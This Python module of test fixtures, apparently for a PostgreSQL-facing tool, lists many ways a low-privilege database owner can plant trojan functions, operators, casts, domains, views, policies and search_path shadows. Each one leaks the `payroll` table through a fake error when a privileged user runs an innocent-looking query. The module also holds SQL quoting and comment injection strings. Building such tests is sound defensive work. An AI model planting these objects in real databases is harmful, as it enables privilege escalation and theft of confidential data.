"""What somebody may have made in the watched database, and the statements that lead to it.

Mallory owns the database, as an application's role often does, but has no right on `payroll`. Each function of
hers leaves a line in the server's log when anybody else runs it, and says what it read in an error that
looks like one of the server's own.
"""

# ruff: noqa: S608 - injections are what this is about

from typing import NamedTuple


class Attack(NamedTuple):
    """What was made, by Mallory or (after a `!`) by an administrator, and what Mallory then asks."""

    made: tuple[str, ...]
    asks: tuple[str, ...]
    raw: bool = False
    """Whether only the text is tried: as where an entry was pushed out while its statement ran, or it takes long."""


SECRET = "ceo=123456"
SUNG = b"LOG:  sang"


def f(name: str, arguments: str = "", returns: str = "boolean", value: str = "true", kind: str = "IMMUTABLE") -> str:
    """A function that sings."""
    return (
        f"CREATE FUNCTION {name}({arguments}) RETURNS {returns} LANGUAGE plpgsql {kind} AS $$ BEGIN"
        f" IF current_user <> 'mallory' THEN RAISE LOG 'sang {name}';"
        " RAISE EXCEPTION 'PAYROLL %', (SELECT string_agg(who || '=' || amount, ' ') FROM public.payroll)"
        f" USING ERRCODE = '42P01'; END IF; RETURN {value}; END $$"
    )


def operators(*signs: str) -> tuple[str, ...]:
    """Operators that sing, of two types that the server itself does not compare."""
    return tuple(
        f"CREATE OPERATOR public.{sign} (LEFTARG = int[], RIGHTARG = text[], FUNCTION = evil.op)" for sign in signs
    )


A, B = "ARRAY[]::int[]", "ARRAY[]::text[]"
COUNT = "SELECT count(*) FROM customers o WHERE o.id > 0 AND "
BOTH = "CREATE OPERATOR public.=== (LEFTARG = boolean, RIGHTARG = boolean, FUNCTION = evil.two)"
ALONE = "CREATE OPERATOR public.@#@ (RIGHTARG = boolean, FUNCTION = evil.one)"

BEFORE = (
    "CREATE SCHEMA evil",
    "GRANT USAGE ON SCHEMA evil TO PUBLIC",
    f("evil.op", "int[], text[]"),
    f("evil.two", "boolean, boolean"),
    f("evil.one", "boolean"),
    f("public.f"),
    f("public.n", "anyelement", "int", "1"),
    "CREATE TYPE public.mood AS ENUM ('good', 'bad')",
    "CREATE TYPE evil.mood AS ENUM ('good', 'bad')",
)

ATTACKS: dict[str, Attack] = {
    # operators that the search_path finds
    **{
        f"operator {sign}": Attack(operators(sign), (f"{COUNT} ({A} {sign} {B}) IS NOT NULL",))
        for sign in ("=", "<>", "<", ">=", "~", "&&", "@>", "||")
    },
    "in": Attack(operators("="), (f"{COUNT} {A} IN ({B})",)),
    "not in": Attack(operators("<>"), (f"{COUNT} {A} NOT IN ({B})",)),
    "case": Attack(operators("="), (f"{COUNT} CASE {A} WHEN {B} THEN true ELSE false END",)),
    "nullif": Attack(operators("="), (f"{COUNT} NULLIF({A}, {B}) IS NULL",)),
    "distinct": Attack(operators("="), (f"{COUNT} {A} IS DISTINCT FROM {B}",)),
    "not distinct": Attack(operators("="), (f"{COUNT} {A} IS NOT DISTINCT FROM {B}",)),
    "like": Attack(
        operators("~~", "!~~", "~~*"), (f"{COUNT} {A} LIKE {B}", f"{COUNT} {A} NOT LIKE {B}", f"{COUNT} {A} ILIKE {B}")
    ),
    "between": Attack(
        operators("<=", ">="), (f"{COUNT} {A} BETWEEN {B} AND {B}", f"{COUNT} {A} BETWEEN SYMMETRIC {B} AND {B}")
    ),
    "rows": Attack(
        operators("="), (f"{COUNT} ROW({A}, true) = ROW({B}, true)", f"{COUNT} ({A}, true) IN (({B}, true))")
    ),
    "any": Attack((BOTH,), (f"{COUNT} true === ANY (ARRAY[true, false])", f"{COUNT} true === ALL (ARRAY[true])")),
    "any of a query": Attack(
        operators("="), (f"{COUNT} {A} = ANY (SELECT {B})", f"{COUNT} {A} IN (SELECT {B} FROM checks)")
    ),
    "infix": Attack((BOTH,), (f"{COUNT} (true === false)",)),
    "prefix": Attack((ALONE,), (f"{COUNT} (@#@ true)",)),
    "named operator": Attack(
        (BOTH, ALONE), (f"{COUNT} (true OPERATOR(public.===) true)", f"{COUNT} (OPERATOR(public.@#@) true)")
    ),
    "spaced operator": Attack((BOTH,), (f"{COUNT} (true OPERATOR/**/( public /* pg_catalog */ . === ) true)",)),
    "order by using": Attack((BOTH,), ("SELECT true FROM orders WHERE (true === true) ORDER BY id USING < LIMIT 1",)),
    "joined with using": Attack(
        (
            "CREATE TABLE lefts (k int2, w int[])",
            "CREATE TABLE rights (k numeric)",
            "INSERT INTO lefts SELECT i % 3, ARRAY[i] FROM generate_series(1, 300) i",
            "INSERT INTO rights SELECT i % 3 FROM generate_series(1, 300) i",
            "ANALYZE lefts, rights",
            f("evil.same", "int2, numeric"),
            "CREATE OPERATOR public.= (LEFTARG = int2, RIGHTARG = numeric, FUNCTION = evil.same,"
            " RESTRICT = eqsel, JOIN = eqjoinsel)",
            "CREATE OPERATOR public.<<< (LEFTARG = int2, RIGHTARG = numeric, FUNCTION = evil.same,"
            " RESTRICT = scalarltsel, JOIN = scalarltjoinsel)",
        ),
        (
            "SELECT count(*) FROM lefts JOIN rights USING (k)",
            "SELECT count(*) FROM lefts NATURAL JOIN rights",
            "SELECT count(*) FROM lefts l, rights r WHERE l.k = r.k",
            "SELECT count(*) FROM lefts WHERE k = extract(day FROM now())",
            "SELECT count(*) FROM lefts WHERE k <<< extract(day FROM now())",
            "SELECT count(*) FROM lefts WHERE k IN (SELECT k FROM rights)",
        ),
    ),
    # functions, however they are written
    "function": Attack((), (f"{COUNT} f()", f"{COUNT} public.f()", 'SELECT "public"."f"() FROM orders LIMIT 1')),
    "function in a gap": Attack((), (f"{COUNT} public /* . */ . -- (\n f /* ( */ ()", f"{COUNT} public\t.\r\nf\n()")),
    "function in escapes": Attack((), (f'{COUNT} U&"\\0070ublic".U&"\\0066"()', f'{COUNT} U&"f"()')),
    "function of a database": Attack((), (f"{COUNT} here.public.f()",)),
    "function in capitals": Attack((f('public."F g"'),), (f'{COUNT} public."F g"()', f"{COUNT} PUBLIC.F()")),
    "function with names": Attack(
        (f("evil.g", "x boolean"),), (f"{COUNT} evil.g(x => true)", f"{COUNT} evil.g(x := true)")
    ),
    "function with any number": Attack(
        (f("evil.many", "VARIADIC x boolean[]"),),
        (f"{COUNT} evil.many(true, false)", f"{COUNT} evil.many(VARIADIC ARRAY[true])"),
    ),
    "function with a default": Attack((f("evil.d", "x boolean DEFAULT public.f()"),), (f"{COUNT} evil.d()",)),
    "function as a column": Attack(
        (f("public.total", "orders", "int", "1"), f("public.of_row", "record", "int", "1")),
        (
            "SELECT o.total FROM orders o LIMIT 1",
            "SELECT (o).total FROM orders o LIMIT 1",
            "SELECT total(o) FROM orders o LIMIT 1",
        ),
    ),
    "function that calls": Attack(
        (
            "CREATE FUNCTION public.outer_one() RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT f()'",
            "CREATE FUNCTION public.pathless() RETURNS boolean LANGUAGE sql IMMUTABLE SET search_path = public"
            " AS 'SELECT f()'",
            *operators("="),
            f"CREATE FUNCTION public.compares() RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT {A} = {B}'",
        ),
        (f"{COUNT} outer_one()", f"{COUNT} public.pathless()", f"{COUNT} public.compares()"),
    ),
    "stable function": Attack(
        (f("public.s", kind="STABLE", returns="int", value="1"),), ("SELECT 1 FROM orders WHERE customer = s()",)
    ),
    "volatile function": Attack((f("public.v", kind="VOLATILE"),), (f"{COUNT} v()",)),
    "table function": Attack(
        ("CREATE FUNCTION public.rows() RETURNS SETOF int LANGUAGE sql STABLE AS 'SELECT 1 WHERE f()'",),
        (
            "SELECT * FROM rows()",
            "SELECT * FROM orders, LATERAL public.rows() LIMIT 1",
            "SELECT public.rows() FROM orders LIMIT 1",
        ),
    ),
    "rows from": Attack((), ("SELECT * FROM ROWS FROM (public.f(), public.n(true)) WITH ORDINALITY",)),
    "limit": Attack((), ("SELECT id FROM orders LIMIT n(1)", "SELECT id FROM orders LIMIT 1 OFFSET public.n(1)")),
    "having": Attack(
        (),
        ("SELECT customer FROM orders GROUP BY customer HAVING f()", "SELECT count(*) FILTER (WHERE f()) FROM orders"),
    ),
    "values": Attack((), ("VALUES (f(), 1)", "SELECT * FROM (VALUES (public.f())) AS v(pg_catalog)")),
    "sampled": Attack((), ("SELECT id FROM orders TABLESAMPLE system (n(1)) LIMIT 1",)),
    "part of a statement": Attack(
        (), ("WITH f AS MATERIALIZED (SELECT f() AS f) SELECT f FROM f", "SELECT ARRAY(SELECT public.f())")
    ),
    "aggregate": Attack(
        (
            f("evil.add", "int, int", "int", "1"),
            "CREATE AGGREGATE public.adds(int) (SFUNC = evil.add, STYPE = int, INITCOND = '0')",
        ),
        ("SELECT adds(id) FROM customers", "SELECT adds(id) OVER (ORDER BY id) FROM customers"),
    ),
    "overlaps": Attack(
        (f("public.overlaps", "date, date, date, date"),),
        ("SELECT 1 WHERE (current_date, current_date) OVERLAPS (current_date, current_date)",),
    ),
    "shadow of a function": Attack(
        (
            f("public.lower", "boolean", "text", "'x'"),
            f("public.now", "int", "int", "1"),
            f("public.count", "boolean[]", "int", "1"),
        ),
        (
            "SELECT lower(true) FROM orders LIMIT 1",
            "SELECT now(1) FROM orders LIMIT 1",
            "SELECT count(ARRAY[true]) FROM orders LIMIT 1",
        ),
    ),
    "extension's function": Attack(
        (
            "CREATE EXTENSION pg_trgm SCHEMA public",
            f("public.trusted"),
            "ALTER EXTENSION pg_trgm ADD FUNCTION public.trusted()",
        ),
        (f"{COUNT} trusted()", f"{COUNT} public.trusted()"),
    ),
    # types, domains and casts
    "domain": Attack(
        ("CREATE DOMAIN public.checked AS int CHECK (n(VALUE) > 0)", "CREATE TABLE checks (c checked)"),
        (
            "SELECT 1::checked",
            "SELECT 1::public.checked FROM orders LIMIT 1",
            "SELECT CAST(1 AS public.checked)",
            "SELECT coalesce(c, 1) FROM checks",
            "SELECT c FROM checks WHERE c = 1",
            "SELECT ARRAY[1, 2]::public.checked[]",
            "SELECT CASE WHEN c > 1 THEN c ELSE 2 END FROM checks",
            "SELECT c FROM checks UNION SELECT 1",
            "SELECT greatest(c, 3) FROM checks",
        ),
    ),
    "domain that asks": Attack(
        (
            "CREATE VIEW public.singing AS SELECT f() AS f, current_user AS who",
            "CREATE DOMAIN public.asked AS int CHECK (query_to_xml('SELECT public.f()', true, true, '') IS NOT NULL)",
            "CREATE TABLE asking (c asked)",
        ),
        ("SELECT coalesce(c, 1) FROM asking", "SELECT 1::asked", "SELECT c FROM asking WHERE c = 2"),
    ),
    "domain of a literal": Attack(
        (),
        (
            "SELECT '{1}'::public.checked[]",
            "SELECT public.checked '1'",
            "SELECT '(1)'::public.checks",
            "SELECT '{\"(1)\"}'::checks[]",
        ),
        raw=True,
    ),
    "composite": Attack(
        ("CREATE TYPE public.pair AS (c checked)",),
        (
            "SELECT ROW(1)::public.pair",
            "SELECT (NULL::public.pair).c",
            "SELECT ROW(1)::pair",
            "SELECT ROW(1)::public.checks",
        ),
    ),
    "cast": Attack(
        (
            f("evil.casts", "evil.mood", "int", "1"),
            "CREATE CAST (evil.mood AS int) WITH FUNCTION evil.casts(evil.mood) AS IMPLICIT",
        ),
        ("SELECT 'good'::evil.mood::int", "SELECT 1 FROM orders WHERE 'good'::evil.mood + 1 = 2"),
    ),
    "cast of a column": Attack(
        (
            f("evil.casts", "public.mood", "text", "'x'"),
            "CREATE CAST (public.mood AS text) WITH FUNCTION evil.casts(public.mood) AS IMPLICIT",
            "CREATE TABLE moods (m public.mood)",
            "INSERT INTO moods SELECT 'good' FROM generate_series(1, 99)",
            "ANALYZE moods",
        ),
        (
            "SELECT m FROM moods WHERE m::text = 'good'",
            "SELECT m FROM moods WHERE m = 'bad'",
            "SELECT lower(m) FROM moods",
        ),
    ),
    "cast to json": Attack(
        (
            "CREATE TYPE evil.shape AS ENUM ('a')",
            f("evil.shown", "evil.shape", "json", "'1'"),
            "CREATE CAST (evil.shape AS json) WITH FUNCTION evil.shown(evil.shape)",
        ),
        ("SELECT to_json('a'::evil.shape)", "SELECT row_to_json(ROW('a'::evil.shape))"),
    ),
    "range": Attack(
        (
            f("evil.apart", "text, text", "float8", "1.0"),
            "CREATE TYPE public.words AS RANGE (SUBTYPE = text, SUBTYPE_DIFF = evil.apart)",
            "CREATE TABLE spans (w public.words)",
            "INSERT INTO spans SELECT public.words('a' || i, 'b') FROM generate_series(100, 400) i",
            "ANALYZE spans",
        ),
        (
            "SELECT count(*) FROM spans WHERE w && public.words('a', 'b')",
            "SELECT count(*) FROM spans s WHERE w @> current_user::text",
        ),
    ),
    "type of a name that is known": Attack(
        ("CREATE DOMAIN public.int4 AS text CHECK (n(VALUE) > 0)",), ("SELECT 1::public.int4 FROM orders LIMIT 1",)
    ),
    "composite of a name that is a table's": Attack(
        (), ("SELECT NULL::public.checks", "SELECT (x).c FROM (SELECT NULL::public.checks x) y")
    ),
    # what a table leads to
    "view": Attack(
        ("CREATE VIEW public.seen AS SELECT * FROM orders WHERE f()", "CREATE VIEW public.more AS TABLE seen"),
        ("SELECT * FROM seen", "TABLE more", "SELECT count(*) FROM orders JOIN public.more USING (id)"),
    ),
    "view that asks": Attack(
        (
            "CREATE VIEW public.deep AS SELECT 1 AS x FROM customers"
            " WHERE name = table_to_xml('public.singing', true, true, '')::text",
        ),
        ("SELECT x FROM deep",),
    ),
    "view behind a wall": Attack(
        (
            "CREATE VIEW public.walled WITH (security_barrier) AS SELECT * FROM orders WHERE f()",
            "CREATE VIEW public.invoked WITH (security_invoker) AS SELECT * FROM orders WHERE f()",
        ),
        ("SELECT * FROM walled", "SELECT * FROM public.invoked LIMIT 1"),
    ),
    "rule": Attack(
        ("CREATE TABLE ruled (x boolean)", 'CREATE RULE "_RETURN" AS ON SELECT TO ruled DO INSTEAD SELECT f() AS x'),
        ("SELECT x FROM ruled",),
    ),
    "policy": Attack(
        (
            "CREATE TABLE guarded (x int)",
            "ALTER TABLE guarded ENABLE ROW LEVEL SECURITY",
            "CREATE POLICY p ON guarded USING (f())",
        ),
        ("SELECT x FROM guarded", "SELECT 1 FROM orders WHERE id IN (SELECT x FROM public.guarded)"),
    ),
    "index of an expression": Attack(
        (
            "CREATE TABLE indexed (x int)",
            "CREATE INDEX ON indexed (n(1))",
            "INSERT INTO indexed VALUES (1)",
            "ANALYZE indexed",
        ),
        ("SELECT x FROM indexed WHERE x = 1",),
    ),
    "index with a condition": Attack(
        ("CREATE TABLE partly (x int)", "CREATE INDEX ON partly (x) WHERE f()"), ("SELECT x FROM partly WHERE x = 1",)
    ),
    "index that compares": Attack(
        (*operators("="), "CREATE TABLE compared (x int)", f"CREATE INDEX ON compared (x) WHERE {A} = {B}"),
        ("SELECT x FROM compared WHERE x = 1",),
    ),
    "constraint": Attack(
        (
            "CREATE TABLE family (x int, CHECK (f()))",
            "CREATE TABLE child (CHECK (n(2) > 0)) INHERITS (family)",
            "ALTER DATABASE here SET constraint_exclusion = on",
        ),
        ("SELECT x FROM family WHERE x = 1", "SELECT x FROM child WHERE x > 3"),
    ),
    "generated column": Attack(
        ("CREATE TABLE made (x int, y int GENERATED ALWAYS AS (x + n(1)) STORED)",), ("SELECT y FROM made WHERE y = 1",)
    ),
    "default": Attack(
        ("CREATE TABLE filled (x int DEFAULT n(1))",),
        ("SELECT x FROM filled", "WITH w AS (INSERT INTO filled DEFAULT VALUES RETURNING x) SELECT x FROM w"),
    ),
    "statistics": Attack(
        (
            "CREATE TABLE counted (x int)",
            "CREATE STATISTICS stats ON (x + n(1)), x FROM counted",
            "INSERT INTO counted VALUES (1)",
            "ANALYZE counted",
        ),
        ("SELECT x FROM counted WHERE x = 1",),
    ),
    "partition": Attack(
        (
            "CREATE TABLE parts (x int) PARTITION BY RANGE ((x + n(1)))",
            "CREATE TABLE part1 PARTITION OF parts FOR VALUES FROM (1) TO (9)",
            "CREATE TABLE parts2 (x int) PARTITION BY RANGE (x)",
            "CREATE TABLE part2 PARTITION OF parts2 FOR VALUES FROM (1) TO (9)",
            "CREATE INDEX ON part2 (n(1))",
        ),
        ("SELECT x FROM parts WHERE x = 1", "SELECT x FROM part1 WHERE x = 1", "SELECT x FROM parts2 WHERE x = 1"),
    ),
    "materialized view": Attack(
        ("CREATE MATERIALIZED VIEW stored AS SELECT 1 AS x", "CREATE INDEX ON stored (n(1))"),
        ("SELECT x FROM stored WHERE x = 1",),
    ),
    # the server's own functions that run what others wrote
    "database as xml": Attack(
        (),
        (
            "SELECT 1 FROM customers WHERE name = database_to_xml(true, true, current_user)::text",
            "SELECT 1 FROM customers WHERE name = schema_to_xml(current_schema(), true, true, current_user)::text",
            "SELECT 1 FROM customers WHERE name = pg_catalog.database_to_xml(true, true, current_user)::text",
        ),
        raw=True,
    ),
    "query as xml": Attack(
        (),
        (
            "SELECT 1 FROM customers WHERE name = query_to_xml('SELECT public.f()', true, true, '')::text",
            "SELECT 1 FROM customers WHERE name = table_to_xml('public.singing'::regclass, true, true, '')::text",
            "SELECT 1 FROM customers WHERE name = schema_to_xml('public', true, true, '')::text",
            "SELECT domain_in('1', 'public.checked'::regtype, -1)",
            "SELECT json_populate_record(NULL::public.pair, '{\"c\": 1}')",
            "SELECT array_in('{1}', 'public.checked'::regtype, -1)",
        ),
        raw=True,
    ),
    # tricks with letters
    "dollar quotes": Attack(
        (),
        ("SELECT $$'$$ || public.f() || $$'$$", "SELECT $a$ /* $a$, public.f() /* */", "SELECT $1$$ , public.f() $$"),
        raw=True,
    ),
    "quotes": Attack(
        (),
        (
            "SELECT 'a\\', public.f(), ' FROM orders'",
            "SELECT E'\\'', public.f(), '''' FROM orders",
            "SELECT 'a'\n'b', public.f() FROM orders",
            "SELECT 'x' /* ' */, public.f() FROM orders -- '",
        ),
        raw=True,
    ),
    "comments": Attack(
        (),
        (
            "SELECT 1 /* /* */ , 2 */ , public.f()",
            "SELECT 1 --\r, public.f()",
            "SELECT 1 /*+ SeqScan(o) */ + public.n(1)",
            "SELECT 3 -/* */- public.n(1)",
            "SELECT 3 @#@--\n public.f()",
        ),
        raw=True,
    ),
    "copied": Attack((), ("COPY (SELECT public.f()) TO STDOUT", "TABLE seen", "SELECT public.f() INTO x"), raw=True),
    "several statements": Attack(
        (),
        ("SELECT 1; SELECT public.f()", "SELECT 1 ; COMMIT; SELECT public.f()", "SELECT 1) ; SELECT public.f(); --"),
        raw=True,
    ),
    "no select": Attack(
        ("CREATE PROCEDURE public.proc() LANGUAGE sql AS 'SELECT f()'",),
        (
            "EXPLAIN SELECT public.f()",
            "EXPLAIN ANALYZE SELECT public.f()",
            "DO 'BEGIN PERFORM public.f(); END'",
            "CALL public.proc()",
            "CREATE TEMP TABLE copied AS SELECT public.f()",
            "SELECT public.f() INTO TEMP copied2",
            "INSERT INTO filled VALUES (n(1))",
            "UPDATE filled SET x = n(1)",
            "DELETE FROM filled WHERE f()",
        ),
    ),
    "prepared": Attack(
        (), ("PREPARE rolecall_plan AS SELECT public.f()", "EXECUTE rolecall_plan", "DEALLOCATE rolecall_plan")
    ),
    "cursor": Attack((), ("DECLARE c CURSOR WITH HOLD FOR SELECT public.f()", "FETCH c")),
    "temporary": Attack(
        ("CREATE TEMP VIEW pg_class AS SELECT f() AS relname", "CREATE TEMP TABLE passing (x int)"),
        ("SELECT * FROM pg_temp.pg_class", "SELECT x FROM passing", "SELECT 1 FROM pg_temp.passing"),
    ),
    "very long": Attack((), (f"{COUNT} true AND {' AND '.join(['id > 0'] * 4000)} AND public.f()",), raw=True),
    "very deep": Attack((), (f"{COUNT} {'(' * 300}public.f(){')' * 300}",)),
    # what our own questions ask
    "shadows": Attack(
        (
            f("evil.cardinality", "regtype[]", "int", "1", "VOLATILE"),
            f("evil.set_config", "text, text, boolean", "text", "'x'", "VOLATILE"),
            f("evil.current_setting", "text", "text", "'off'", "VOLATILE"),
            f("evil.quote_ident", "text", "text", "'x'", "VOLATILE"),
            f("evil.current_database", "", "name", "'x'", "VOLATILE"),
            f("evil.unnest", "text[]", "text", "'x'", "VOLATILE"),
            "CREATE VIEW evil.pg_extension AS SELECT f() AS extname",
            "CREATE VIEW evil.pg_namespace AS SELECT f() AS nspname",
            "CREATE VIEW evil.pg_locks AS SELECT f() AS pid",
            "ALTER DATABASE here SET search_path = evil, public, pg_catalog",
            "ALTER DATABASE here SET quote_all_identifiers = on",
            "ALTER DATABASE here SET standard_conforming_strings = off",
            "ALTER DATABASE here SET transform_null_equals = on",
            "ALTER DATABASE here SET plan_cache_mode = force_custom_plan",
        ),
        ("SELECT id FROM orders WHERE status = 'shut'", "SELECT id FROM orders WHERE placed IS NULL AND customer = 7"),
    ),
}

OF_ADMINISTRATORS: dict[str, Attack] = {
    "cast of the server's types": Attack(
        (
            f("evil.from_bytes", "bytea", "int", "1"),
            "!CREATE CAST (bytea AS int) WITH FUNCTION evil.from_bytes(bytea) AS IMPLICIT",
        ),
        (
            "SELECT 1 FROM orders WHERE decode(current_user, 'hex')::int = 1",
            "SELECT 1 FROM orders WHERE sha256($1) + 1 = 2",
        ),
        raw=True,
    ),
    "function among the server's own": Attack(
        ("!" + f("pg_catalog.lower", "boolean", "boolean"),),
        (f"{COUNT} lower(true)", f"{COUNT} pg_catalog.lower(false)"),
    ),
    "operator among the server's own": Attack(
        ("!CREATE OPERATOR pg_catalog.=== (LEFTARG = boolean, RIGHTARG = boolean, FUNCTION = evil.two)",),
        (f"{COUNT} (true === false)",),
    ),
    "operator class": Attack(
        (
            f("evil.compares", "int, int", "int", "1"),
            f("evil.less", "int, int"),
            "!CREATE OPERATOR evil.< (LEFTARG = int, RIGHTARG = int, FUNCTION = evil.less,"
            " RESTRICT = scalarltsel, JOIN = scalarltjoinsel)",
            "!CREATE OPERATOR FAMILY evil.ints USING btree",
            "!CREATE OPERATOR CLASS evil.ints FOR TYPE int USING btree FAMILY evil.ints AS OPERATOR 1 evil.<,"
            " OPERATOR 3 pg_catalog.=, FUNCTION 1 evil.compares(int, int)",
        ),
        (
            "SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer",
            "SELECT id FROM orders WHERE customer = 5",
        ),
    ),
}

OVER_EXTENSIONS = (
    f("public.hypopg_reset", "x int DEFAULT 1", "int", "1", "VOLATILE"),
    f("public.hypopg_create_index", "x text, y int DEFAULT 1", "int", "1", "VOLATILE"),
    f("public.hypopg_create_index", "VARIADIC x text[]", "int", "1", "VOLATILE"),
    f("public.hypopg_relation_size", "x bigint", "int", "1", "VOLATILE"),
    f("public.pg_stat_statements", "x boolean, y int DEFAULT 1", "int", "1", "VOLATILE"),
)
"""Functions that look like those of the extensions that we call."""
